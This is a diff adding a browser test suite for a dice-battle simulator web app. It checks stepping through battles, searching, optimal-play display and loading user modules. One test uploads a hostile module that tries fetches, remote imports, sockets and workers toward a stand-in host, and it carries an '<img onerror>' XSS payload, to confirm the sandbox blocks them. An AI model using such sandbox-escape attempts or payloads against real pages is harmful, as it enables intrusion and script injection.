@@ -1,0 +1,223 @@
+/** A battle told, the next one found, optimal play, and a module from disk, by mouse and by keys. Needs Chromium. */
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { optimal } from '../../src/rollout/optimal/optimal.ts';
+import { find } from '../../src/running/find.ts';
+import { replay } from '../../src/running/replay.ts';
+import { simulate } from '../../src/running/simulate.ts';
+import { loadScenario } from '../../src/scenario/index.ts';
+import { loadSystems } from '../../src/systems/load.ts';
+import { DEPTH } from '../depth.ts';
+import { launched, MISSING, type Offered, offered, type Visit, visit } from './browser.ts';
+
+const GROUND = 'scenarios/phased-dice-ground.yaml';
+const DIRECT = 'scenarios/attrition-direct.yaml';
+const BATTERING = 'scenarios/cube-bag-battering.yaml';
+
+const EVIL = `import { defineSystem, integer } from 'warpool/system';
+const reached = [];
+const attempt = async (name, act) => { try { await act(); reached.push(name); } catch {} };
+await attempt('fetch', () => fetch('https://elsewhere.example/'));
+await attempt('own query', () => fetch('/index.html?secret'));
+await attempt('fetch of a realm', () => Object.getPrototypeOf(fetch).constructor('return fetch("https://elsewhere.example/")')());
+await attempt('import', () => new Function('return import("https://elsewhere.example/x.js")')());
+await attempt('socket', () => new WebSocket('wss://elsewhere.example/'));
+await attempt('request', () => new XMLHttpRequest());
+await attempt('store', () => indexedDB.open('x'));
+await attempt('caches', () => caches.open('x'));
+await attempt('worker', () => new Worker('https://elsewhere.example/x.js'));
+await attempt('blob worker', () => new Worker(URL.createObjectURL(new Blob(['1']))));
+export default defineSystem({
+  id: 'evil', title: 'Reached: ' + reached.join(', ') + '.', about: '<img src=x onerror=alert(1)>',
+  fields: { lives: integer(1, 3, 'Lives.').default(1) },
+  decisions: [], rules: {}, examples: { '<b>one</b>': { lives: 1 } },
+  battle: () => ({ outcomes: ['a'], start: () => 0, round: (at) => at + 1, outcome: (at) => (at > 0 ? 'a' : undefined) }),
+});
+`;
+
+const told = (page: Page) => page.getByRole('tabpanel');
+const step = (page: Page) => told(page).locator('.shown .lead');
+
+describe.skipIf(MISSING || DEPTH === 1)('in the page', () => {
+  let browser: Browser;
+  let served: Offered;
+  let here: Visit;
+
+  beforeAll(async () => {
+    [browser, served] = await Promise.all([launched(), offered()]);
+  });
+
+  beforeEach(async () => {
+    here = await visit(browser, served.url);
+  });
+
+  afterEach(async () => {
+    await here.context.close();
+  });
+
+  afterAll(async () => {
+    await browser.close();
+    await served.end();
+  });
+
+  test('a battle is stepped through by buttons and by keys, dice and all', async () => {
+    const { page, heard } = here;
+    await page.goto(await served.link(GROUND, { panel: 'battle', notes: { battle: 4 } }));
+    await step(page).waitFor();
+    expect(await step(page).innerText()).toContain('The attack is on a settlement');
+    await page.getByRole('button', { name: 'One step forward' }).click();
+    await page.getByRole('button', { name: 'One step forward' }).click();
+    const { events } = replay(await loadScenario(GROUND), { seed: 1, battle: 4 });
+    const [first] = events.flatMap((event) => (event.kind === 'hits' ? [event] : []));
+    expect(await told(page).locator('.die').count()).toBe(first?.faces.length);
+    expect(await told(page).locator('.die.hit').count()).toBe(first?.hits);
+    const pips = (first?.faces ?? []).reduce((sum, face) => sum + face, 0);
+    expect(await told(page).locator('.die .pip').count()).toBe(pips);
+    const story = page.getByRole('listbox', { name: 'Story' });
+    await story.focus();
+    const count = await story.getByRole('option').count();
+    for (const [key, at] of [
+      ['End', count],
+      ['ArrowLeft', count - 1],
+      ['Home', 1],
+      ['ArrowDown', 2],
+    ] as const) {
+      await page.keyboard.press(key);
+      await told(page)
+        .getByText(`step ${String(at)} of ${String(count)}`)
+        .waitFor();
+      expect(await story.locator('[aria-selected=true]').getAttribute('id')).toBe(`step-${String(at - 1)}`);
+    }
+    await page.getByRole('button', { name: 'Play' }).click();
+    await told(page)
+      .getByText(`step 4 of ${String(count)}`)
+      .waitFor();
+    await page.getByRole('button', { name: 'Pause' }).click();
+    expect(heard).toEqual([]);
+  });
+
+  test('the next battle where a condition holds is found, and the address leads to it', async () => {
+    const { page, heard } = here;
+    const where = 'outcome=defender && rounds>14';
+    const { found } = await find(await loadScenario(DIRECT), { where, from: 1, limit: 2 });
+    await page.goto(await served.link(DIRECT, { panel: 'battle' }));
+    const field = page.getByLabel('Find the next battle where');
+    await field.fill('outcome=nobody');
+    await told(page).getByText('condition:9: expected one of').waitFor();
+    expect(await page.getByRole('button', { name: 'Find next' }).isDisabled()).toBe(true);
+    await field.fill(where);
+    for (const each of found) {
+      await page.getByRole('button', { name: 'Find next' }).click();
+      await page.getByRole('heading', { name: `Battle ${String(each.battle)} of seed 1`, exact: true }).waitFor();
+    }
+    await page.waitForFunction((before) => location.hash !== before, '', { timeout: 5000 });
+    await page.waitForTimeout(1200);
+    const again = await here.context.newPage();
+    await again.goto(page.url());
+    await again.getByRole('heading', { name: `Battle ${String(found[1]?.battle)} of seed 1`, exact: true }).waitFor();
+    expect(await again.getByLabel('Find the next battle where').inputValue()).toBe(where);
+    expect(heard).toEqual([]);
+  });
+
+  test('a search that finds nothing can be stopped', async () => {
+    const { page } = here;
+    await page.goto(await served.link(DIRECT, { panel: 'battle' }));
+    await page.getByLabel('Find the next battle where').fill('rounds>9999');
+    await page.getByRole('button', { name: 'Find next' }).click();
+    await told(page).getByText('battles looked at').waitFor();
+    await told(page).getByRole('button', { name: 'Stop' }).click();
+    await told(page).getByText('Stopped.').waitFor();
+    expect(await page.getByRole('button', { name: 'Find next' }).isEnabled()).toBe(true);
+  });
+
+  test('optimal play stands beside the battle, with the values of the library', async () => {
+    const { page, heard } = here;
+    const scenario = await loadScenario(BATTERING);
+    const { outcomes } = optimal(scenario);
+    const best = outcomes.find(({ name }) => name === 'attacker')?.best ?? 0;
+    await page.goto(await served.link(BATTERING, { panel: 'optimal' }));
+    await told(page)
+      .getByText(`By the best play the attacker wins with probability ${(100 * best).toFixed(3)} %`)
+      .waitFor();
+    await page.getByRole('button', { name: 'Next decision' }).click();
+    const table = told(page).getByRole('table').first();
+    expect(await table.getByRole('rowheader').count()).toBe(9);
+    expect(await table.locator('strong').innerText()).toContain('cubes:9');
+    expect(await told(page).locator('.cube').count()).toBe(9);
+    expect(heard).toEqual([]);
+  });
+
+  test('optimal play of a system without decisions, and of too many states, is not made up', async () => {
+    const { page } = here;
+    await page.goto(await served.link(DIRECT, { panel: 'optimal' }));
+    await told(page).getByText('Nobody decides anything in this system').waitFor();
+    const other = await here.context.newPage();
+    await other.goto(await served.link(GROUND, { panel: 'optimal' }));
+    await other.getByText('There is no optimum to show').waitFor();
+    expect(await other.getByRole('button', { name: 'Try with 400 000 steps' }).isVisible()).toBe(true);
+  });
+
+  test.each([
+    ['feint', 'feint-even', 'Duel of secret choices'],
+    ['conquest-dice', 'conquest-dice-raid', 'Opposed sorted dice'],
+    ['volley', 'volley-even', 'Hit, wound, save, morale'],
+  ])('the module %s conforms, and is played with the digest of the command line', async (module, name, title) => {
+    const { page, heard } = here;
+    const [code, file] = [`examples/systems/${module}.js`, `examples/systems/${name}.yaml`];
+    const scenario = await loadScenario(file, { systems: await loadSystems([code]) });
+    const { digest } = await simulate(scenario, { battles: 20_000, seed: 5 });
+    await page.goto(await served.link(file, { panel: 'own', battles: 20_000, seed: '5' }));
+    await page.getByLabel('Module with a system').setInputFiles(code);
+    await told(page).getByText(`${module}.js is code, and it will run.`).waitFor();
+    expect(await page.getByRole('heading', { name: title }).count()).toBe(0);
+    await page.getByRole('button', { name: `Run ${module}.js` }).click();
+    await page.getByRole('heading', { name: title }).waitFor();
+    await told(page).getByText(`${module} conforms`).waitFor({ timeout: 60_000 });
+    await page.getByRole('tab', { name: 'Answer' }).click();
+    await told(page).getByText(digest).first().waitFor();
+    await told(page).getByText(`--systems ${module}.js`).first().waitFor();
+    await page.getByRole('tab', { name: 'Battle' }).click();
+    await step(page).waitFor();
+    const { outcome } = replay(scenario, { seed: 5 });
+    await told(page).getByText(new RegExp(outcome, 'i')).first().waitFor();
+    await page.getByRole('tab', { name: 'Own systems' }).click();
+    await page.getByRole('button', { name: 'Close the module' }).click();
+    await page.getByText(`found "${module}"`).first().waitFor();
+    expect(heard).toEqual([]);
+  });
+
+  test('a module that would reach out reaches nothing, and its names are texts', async () => {
+    const { page, heard } = here;
+    await page.goto(await served.link(DIRECT, { panel: 'own' }));
+    await page
+      .getByLabel('Module with a system')
+      .setInputFiles({ name: 'evil.js', mimeType: 'text/javascript', buffer: Buffer.from(EVIL) });
+    await page.getByRole('button', { name: 'Run evil.js' }).click();
+    await page.getByRole('heading', { name: 'Reached: .', exact: true }).waitFor();
+    await told(page).getByText('<img src=x onerror=alert(1)>').waitFor();
+    expect(await told(page).locator('img').count()).toBe(0);
+    expect(heard.filter((each) => !each.includes('Content Security Policy'))).toEqual([]);
+  });
+
+  test.each([
+    ['import.js', "import fs from 'node:fs'; export default fs", "import.js:1:1: expected imports of 'warpool/system'"],
+    ['broken.js', 'export default {', 'expected JavaScript'],
+    ['empty.js', 'export default 1', 'empty.js: expected a module that exports a system'],
+    ['throws.js', 'export default 1; throw new Error("no")', 'expected a module that can be loaded, found Error: no'],
+    ['notes.txt', 'text', 'notes.txt: expected a module in JavaScript'],
+  ])('what is no module is told, and the page goes on: %s', async (name, text, message) => {
+    const { page } = here;
+    await page.goto(await served.link(DIRECT, { panel: 'own', battles: 10_000 }));
+    await page
+      .getByLabel('Module with a system')
+      .setInputFiles({ name, mimeType: 'text/javascript', buffer: Buffer.from(text) });
+    const run = page.getByRole('button', { name: `Run ${name}` });
+    const problem = told(page).getByRole('alert').filter({ hasText: message });
+    await run.or(problem).first().waitFor();
+    if (await run.isVisible()) await run.click();
+    await problem.waitFor();
+    const { digest } = await simulate(await loadScenario(DIRECT), { battles: 10_000 });
+    await page.getByRole('tab', { name: 'Answer' }).click();
+    await told(page).getByText(digest).first().waitFor();
+  });
+});
